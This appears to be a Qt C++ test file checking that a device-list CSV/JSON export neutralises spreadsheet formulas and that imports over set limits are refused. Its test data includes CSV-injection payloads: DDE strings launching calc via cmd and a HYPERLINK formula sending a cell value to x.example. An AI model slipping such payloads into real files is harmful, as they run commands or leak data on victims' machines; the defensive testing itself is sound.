// The device file on its own, in memory: names a spreadsheet would run as formulas go out inert and come back
// exact, and an import obeys the bounds live data does.
#include "TestHome.h"
#include "devicefile/DeviceExport.h"
#include "devicefile/ImportReader.h"
#include "platform/Clock.h"
#include "store/DeviceWatch.h"

#include <QRegularExpression>
#include <QTest>

namespace {
const QDateTime kNow(QDate(2026, 12, 6), QTime(12, 0), Qt::UTC);
const QString kMac = QStringLiteral("02-AA-00-00-00-0D");
} // namespace

class TestDeviceExport final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { pinTestEnvironment(); }

    void formulasGoOutInert_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"hi\")");
        QTest::newRow("DDE") << QStringLiteral("+cmd|' /C calc'!A0");
        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0");
        QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
        QTest::newRow("apostrophe of its own") << QStringLiteral("'=already guarded");
        QTest::newRow("plain") << QStringLiteral("Printer, upstairs");
    }

    void formulasGoOutInert()
    {
        QFETCH(QString, name);
        DeviceStore table;
        DeviceRecord device = DeviceRecord::empty();
        device.MacAddress = kMac;
        device.FriendlyName = name;
        device.HostName = name;
        device.Watch = DeviceWatch::Both; // a watched phone comes back watched, in both forms
        QVERIFY(table.append(device));
        const QString csv = DeviceExport::exportText(table, DeviceExport::Format::Csv);
        const DeviceExport::Parsed json =
            DeviceExport::parse(DeviceExport::exportText(table, DeviceExport::Format::Json).toUtf8());
        QCOMPARE(json.devices.value(0).record.Watch, quint8(DeviceWatch::Both));
        static const QRegularExpression live(QStringLiteral("(^|,)\"?[=+\\-@\\t\\r]"));
        QVERIFY2(!csv.section(QLatin1Char('\n'), 1).contains(live), qPrintable(csv));
        const DeviceExport::Parsed back = DeviceExport::parse(csv.toUtf8());
        QVERIFY2(back.fault.isEmpty(), qPrintable(back.fault));
        QCOMPARE(back.devices.value(0).record.FriendlyName, name);
        QCOMPARE(back.devices.value(0).record.HostName, name);
        QCOMPARE(back.devices.value(0).record.Watch, quint8(DeviceWatch::Both));
    }

    // Each bound live data obeys, broken by a file: refused whole, the refusal names the bound and the line.
    void importBounds_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("fault");
        const QByteArray csv = "mac,list,first_seen,intervals\n";
        const QByteArray json = "{\"devices\": [\n{\"mac\": \"02-AA-00-00-00-0D\", \"list\": \"safe\"},\n";
        QByteArray day;
        for (int h = 0; h < 13; ++h)
            day +=
                QStringLiteral("2026-12-05T%1:00:00Z/2026-12-05T%1:30:00Z;").arg(h, 2, 10, QLatin1Char('0')).toUtf8();
        QByteArray many = csv;
        for (int i = 0; i <= DeviceStore::MaxDevices; ++i)
            many += QStringLiteral("02-00-00-%1-%2-%3,safe,,\n")
                        .arg(i >> 16, 2, 16, QLatin1Char('0'))
                        .arg((i >> 8) & 0xFF, 2, 16, QLatin1Char('0'))
                        .arg(i & 0xFF, 2, 16, QLatin1Char('0'))
                        .toUtf8();
        QTest::newRow("interval in 2099") << csv + kMac.toUtf8() + ",safe,,2099-01-01T00:00:00Z/2099-01-02T00:00:00Z\n"
                                          << "line 2: interval 2099-01-01T00:00:00Z to 2099-01-02T00:00:00Z lies in "
                                             "the future";
        QTest::newRow("first seen tomorrow") << csv + kMac.toUtf8() + ",safe,2026-12-07T12:00:00Z,\n"
                                             << "line 2: first_seen 2026-12-07T12:00:00Z lies in the future";
        QTest::newRow("13 stays in a day") << csv + kMac.toUtf8() + ",safe,," + day + "\n"
                                           << "line 2: 02-AA-00-00-00-0D has more than 12 stays beginning on "
                                              "2026-12-05";
        QTest::newRow("50,001 devices")
            << many
            << QStringLiteral("line %1: the file holds more than 50000 devices").arg(DeviceStore::MaxDevices + 2);
        QTest::newRow("CSV line over 1 MB") << csv + QByteArray(ImportReader::MaxRecordBytes + 1, 'x')
                                            << "line 2: the line is longer than 1048576 bytes";
        QTest::newRow("JSON device over 1 MB")
            << json + "{\"mac\": \"" + QByteArray(ImportReader::MaxRecordBytes, 'x') + "\"}]}"
            << "line 3: device 2 is longer than 1048576 bytes";
        QTest::newRow("JSON device no object") << json + "\"02-AA-00-00-00-0E\"]}"
                                               << "line 3: device 2 is not an object";
        QTest::newRow("JSON broken after the devices")
            << json + "{\"mac\": \"02-AA-00-00-00-0E\", \"list\": \"safe\"}\n]\n,}"
            << "line 5: ";
        QTest::newRow("JSON cut inside a device") << json + "{\"mac\": \n\"02-AA"
                                                  << "line 4: ";
    }

    void importBounds()
    {
        QFETCH(QByteArray, file);
        QFETCH(QString, fault);
        ManualClock clock(kNow);
        kwclock::install(&clock);
        const DeviceExport::Parsed parsed = DeviceExport::parse(file);
        kwclock::install(nullptr);
        QVERIFY2(parsed.fault.startsWith(fault), qPrintable(parsed.fault));
        QVERIFY(parsed.devices.isEmpty());
    }

    // A store near its bound takes no file that would carry it past: nothing of the file is taken.
    void importCap()
    {
        DeviceStore table;
        for (int i = 0; i < DeviceStore::MaxDevices - 1; ++i) {
            DeviceRecord device = DeviceRecord::empty();
            device.MacAddress = QStringLiteral("02-00-00-%1-%2-%3")
                                    .arg(i >> 16, 2, 16, QLatin1Char('0'))
                                    .arg((i >> 8) & 0xFF, 2, 16, QLatin1Char('0'))
                                    .arg(i & 0xFF, 2, 16, QLatin1Char('0'));
            table.append(device);
        }
        const DeviceExport::Parsed parsed =
            DeviceExport::parse("mac,list\n02-AA-00-00-00-0D,safe\n02-AA-00-00-00-0E,intruders\n");
        QCOMPARE(parsed.devices.size(), 2);
        const DeviceExport::Merged merged = DeviceExport::merge(table, parsed.devices, false, nullptr);
        QVERIFY(!merged.stored);
        QCOMPARE(merged.refused,
            QStringLiteral("the store holds 49999 devices and the file 2 more, past the 50000 a "
                           "store keeps"));
        QCOMPARE(table.size(), DeviceStore::MaxDevices - 1);
    }
};

KW_TEST_GUILESS_MAIN(TestDeviceExport)
#include "tst_deviceexport.moc"
